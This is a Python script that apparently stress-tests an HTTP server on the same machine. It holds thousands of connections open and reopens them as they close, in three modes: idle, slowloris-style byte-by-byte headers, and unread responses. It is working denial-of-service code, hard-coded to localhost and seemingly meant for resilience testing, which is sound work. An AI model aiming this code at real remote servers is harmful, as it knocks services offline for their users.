#!/usr/bin/python3
"""Holds many connections to an HTTP server of this machine and opens each again as soon as it is closed.

Kinds: `idle` sends nothing, `slow` sends the head of a request byte by byte, `unread` sends requests and reads
nothing. Runs until it is killed; prints a line with its figures each second.
"""
import argparse
import errno
import resource
import select
import socket
import time

IP_BIND_ADDRESS_NO_PORT = 24
SMALL_BUFFER = 4096
SECONDS_BETWEEN_BYTES = 1
GROUPS = 20  # A part of the connections sends at a time: a real attack does not come in waves.
REQUEST = b'GET /metrics HTTP/1.1\r\nHost: attack\r\n\r\n'
SLOW_REQUEST = b'GET /metrics HTTP/1.1\r\nHost: attack\r\nX: ' + b'x' * 4000
GONE = select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR


class Attack:
    def __init__(self, kind, source, target, connections):
        self.kind, self.source, self.target = kind, source, target
        self.poll = select.epoll()
        self.open = {}  # by descriptor: [socket, bytes sent]
        self.opened = self.failed = 0
        for _ in range(connections):
            self.connect()

    def connect(self):
        client = socket.socket()
        client.setblocking(False)
        client.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        client.bind((self.source, 0))
        if self.kind == 'unread':
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER)
        if client.connect_ex(self.target) not in (0, errno.EINPROGRESS):
            self.failed += 1
        self.opened += 1
        self.open[client.fileno()] = [client, 0]
        self.poll.register(client, GONE | select.EPOLLOUT | select.EPOLLET)

    def handle(self, descriptor, event):
        entry = self.open[descriptor]
        if event & GONE:
            del self.open[descriptor]
            entry[0].close()
            self.connect()
        elif self.kind == 'unread' and not entry[1]:
            self.send(entry, REQUEST)

    def send(self, entry, data):
        try:
            entry[1] += entry[0].send(data)
        except OSError:
            pass  # The next event tells whether it is closed.

    def send_bytes(self, group):
        for descriptor in range(group, max(self.open) + 1, GROUPS):
            if entry := self.open.get(descriptor):
                self.send(entry, SLOW_REQUEST[entry[1]:entry[1] + 1])

    def run(self):
        next_byte = next_report = time.monotonic()
        group = 0
        while True:
            for descriptor, event in self.poll.poll(SECONDS_BETWEEN_BYTES / GROUPS / 2, 256):
                self.handle(descriptor, event)
            now = time.monotonic()
            if self.kind == 'slow' and now >= next_byte:
                self.send_bytes(group)
                group = (group + 1) % GROUPS
                next_byte = now + SECONDS_BETWEEN_BYTES / GROUPS
            if now >= next_report:
                print(len(self.open), self.opened, self.failed, flush=True)
                next_report = now + 1


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument('kind', choices=('idle', 'slow', 'unread'))
    parser.add_argument('port', type=int)
    parser.add_argument('--source', default='127.0.0.1')
    parser.add_argument('--connections', type=int, default=5000)
    options = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    Attack(options.kind, options.source, ('127.0.0.1', options.port), options.connections).run()


if __name__ == '__main__':
    main()
